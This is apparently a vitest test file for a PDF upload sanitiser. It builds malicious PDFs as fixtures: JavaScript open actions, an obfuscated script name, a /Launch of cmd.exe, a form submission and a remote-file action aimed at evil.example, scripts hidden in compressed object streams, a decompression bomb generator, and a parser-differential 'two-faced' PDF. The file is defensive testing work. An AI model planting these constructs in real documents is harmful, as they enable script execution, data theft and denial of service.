import { randomBytes } from 'node:crypto';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { constants, deflateRawSync, deflateSync, inflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import { extractText, getDocumentProxy } from 'unpdf';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { temporaryFolder } from '../../testing/temporary-folder.ts';
import { rewritePdf } from './rewrite-pdf.ts';
import { jpeg, packedObjects, pdf } from './testing/build-files.ts';

let folder: ReturnType<typeof temporaryFolder>;
beforeEach(() => {
  folder = temporaryFolder();
});
afterEach(() => folder[Symbol.dispose]());

async function check(content: Buffer | string): Promise<'accepted' | number> {
  const path = join(folder.path, 'sent');
  await writeFile(path, content);
  return rewritePdf(path).then(
    () => 'accepted' as const,
    ({ code }) => code,
  );
}
const NOT_A_PDF = 4004006;
const ACTIVE = 4004008;

describe('a PDF is accepted', () => {
  test('as a scanner writes it', async () => {
    const scan = await PDFDocument.create();
    const page = scan.addPage();
    page.drawImage(await scan.embedJpg(await jpeg(300, 400)), { x: 0, y: 0 });
    expect(await check(Buffer.from(await scan.save()))).toBe('accepted');
    expect(await check(Buffer.from(await scan.save({ useObjectStreams: false })))).toBe('accepted');
  });

  test('with a link, and with an outline that goes to a page', async () => {
    const link = '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.cn) >> >>';
    expect(await check(pdf({ objects: [link], catalog: '/OpenAction [3 0 R /Fit]' }))).toBe('accepted');
  });

  // A comment is nothing to a reader of PDF, and the file never becomes a page: it is sent as an attachment.
  test('with a page of HTML in a comment', async () => {
    expect(await check(pdf({ head: '%<html><script>alert(1)</script>\n' }))).toBe('accepted');
  });
});

describe('no PDF is', () => {
  test.each([
    ['a text', 'a text'],
    ['an empty file', ''],
    ['its first line alone', '%PDF-1.7\n'],
    ['a frame without objects', '%PDF-1.7\nstartxref\n0\n%%EOF\n'],
    ['a PDF with something before it', Buffer.concat([Buffer.from('PK\x03\x04'), pdf()])],
    ['a PDF with a script behind it', Buffer.concat([pdf(), Buffer.from('<script>alert(1)</script>')])],
    ['a PDF with a ZIP behind it', Buffer.concat([pdf(), Buffer.from(`PK\x05\x06${'\0'.repeat(18)}`)])],
    ['a PDF in the comment of a ZIP', pdf({ head: `%PK\x05\x06${'\0'.repeat(16)}\xff\xff\n` })],
    ['the first half of a PDF', pdf().subarray(0, 200)],
    ['a version that there is not', Buffer.from(pdf().toString('latin1').replace('1.7', '9.9'))],
    [
      'a script in an object that is nested too deeply to be read',
      pdf({ objects: [`<< /S /JavaScript /JS (x) /Z ${'['.repeat(100_000)}${']'.repeat(100_000)} >>`] }),
    ],
    [
      'a script in packed objects of which the packing is not known',
      pdf({
        objects: [
          '<< /Type /ObjStm /N 1 /First 4 /Filter /Crypt /Length 30 >>\nstream\n9 0 << /S /JavaScript /JS (x)>>\nendstream',
        ],
      }),
    ],
    [
      'noise between first and last line',
      Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(5_000), Buffer.from('\nstartxref\n9\n%%EOF\n')]),
    ],
  ])('%s', async (_, content) => {
    expect(await check(content)).toBe(NOT_A_PDF);
  });

  test('a bomb is what it is said to be', () => {
    expect(inflateSync(packedSpaces(3)).equals(Buffer.alloc(3_000_000, ' '))).toBe(true);
  });

  // Unpacked it would have a thousand million bytes.
  test('one that unpacks to more than there is memory', async () => {
    const bomb = deflateSync(packedSpaces(1_000), { level: 9 });
    expect(bomb.length).toBeLessThan(100_000);
    const before = process.memoryUsage().rss;
    expect(await check(packedObjects(bomb, '[/FlateDecode /FlateDecode]'))).toBe(NOT_A_PDF);
    expect(process.memoryUsage().rss - before).toBeLessThan(1_500_000_000);
  });
});

describe('a PDF is refused that', () => {
  test.each([
    ['runs a script when it is opened', { catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }],
    ['runs a script of its page', { objects: ['<< /AA << /O << /S /JavaScript /JS 5 0 R >> >> >>'] }],
    ['spells the name otherwise', { objects: ['<< /S /J#61vaScript /J#53 (1) >>'] }],
    ['starts a program', { objects: ['<< /S /Launch /F (cmd.exe) >>'] }],
    ['carries a file', { catalog: '/Names << /EmbeddedFiles << /Names [] >> >>' }],
    ['sends a form', { objects: ['<< /S /SubmitForm /F (https://evil.example) >>'] }],
    ['opens another file', { objects: ['<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) >>'] }],
    ['has a form of XML', { catalog: '/AcroForm << /XFA 4 0 R >>' }],
  ])('%s', async (_, parts) => {
    expect(await check(pdf(parts))).toBe(ACTIVE);
  });

  test('hides its script in packed objects', async () => {
    const hidden = Buffer.from('10 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>');
    expect(await check(packedObjects(deflateSync(hidden), '/FlateDecode'))).toBe(ACTIVE);
  });

  test('is encrypted', async () => {
    const locked = await PDFDocument.create();
    locked.addPage();
    locked.encrypt({ userPassword: 'secret', ownerPassword: 'owner' });
    expect(await check(Buffer.from(await locked.save()))).toBe(ACTIVE);
  });
});

describe('what is stored of a PDF', () => {
  const stored = async (content: Buffer) => {
    expect(await check(content)).toBe('accepted');
    return readFile(join(folder.path, 'sent'));
  };
  const read = async (file: Buffer) => getDocumentProxy(new Uint8Array(file));

  test('is what was read of it: where its own table leads other readers to a script, the stored one does not', async () => {
    const hidden = twoFaced();
    const scripts = async (file: Buffer) => JSON.stringify(await (await read(file)).getJSActions());
    expect(await scripts(hidden)).toContain('app.alert(1)');
    const found = await stored(hidden);
    expect((await read(found)).numPages).toBe(1);
    expect(await scripts(found)).toBe('null');
  });

  test('has its pages, texts and pictures', async () => {
    const scan = await PDFDocument.create();
    const page = scan.addPage([300, 400]);
    page.drawImage(await scan.embedJpg(await jpeg(300, 400)), { x: 0, y: 0 });
    page.drawText('Licence 91110000');
    const found = await stored(Buffer.from(await scan.save()));
    expect((await extractText(await read(found), { mergePages: true })).text).toContain('Licence 91110000');
    expect(found.includes('/DCTDecode')).toBe(true);
  });
});

/** So many millions of spaces as zlib packs them (RFC 1950), of which only the first million is packed: the others are the same block. */
function packedSpaces(millions: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(1_000_000, ' '), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const [length, space, base] = [BigInt(millions) * 1_000_000n, 32n, 65_521n];
  const sum = Buffer.alloc(4);
  sum.writeUInt16BE(Number((length + (space * length * (length + 1n)) / 2n) % base), 0);
  sum.writeUInt16BE(Number((1n + space * length) % base), 2);
  const blocks = Array.from({ length: millions }, () => block);
  return Buffer.concat([Buffer.from([0x78, 0xda]), ...blocks, deflateRawSync(Buffer.alloc(0)), sum]);
}

/** A harmless PDF for who reads one object after the other; its table of objects lies in a stream, and leads to a catalogue there that runs a script. */
function twoFaced(): Buffer {
  const plain = pdf({ objects: ['STREAM'] }).toString('latin1');
  const start = plain.indexOf('4 0 obj');
  const before = '4 0 obj\n<< /Length LLLLL >>\nstream\n';
  const base = start + before.length;
  const catalog =
    '1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>\nendobj\n';
  const row = (offset: number) => `${String(offset).padStart(10, '0')} 00000 n \n`;
  const rows = [base, plain.indexOf('2 0 obj'), plain.indexOf('3 0 obj')].map(row).join('');
  const table = `xref\n0 4\n0000000000 65535 f \n${rows}trailer\n<< /Size 4 /Root 1 0 R >>\n`;
  const stream = before.replace('LLLLL', String(catalog.length + table.length).padStart(5, '0')) + catalog + table;
  const end = plain.slice(plain.indexOf('xref'), plain.lastIndexOf('startxref'));
  return Buffer.from(
    `${plain.slice(0, start)}${stream}\nendstream\nendobj\n${end}startxref\n${base + catalog.length}\n%%EOF\n`,
    'latin1',
  );
}
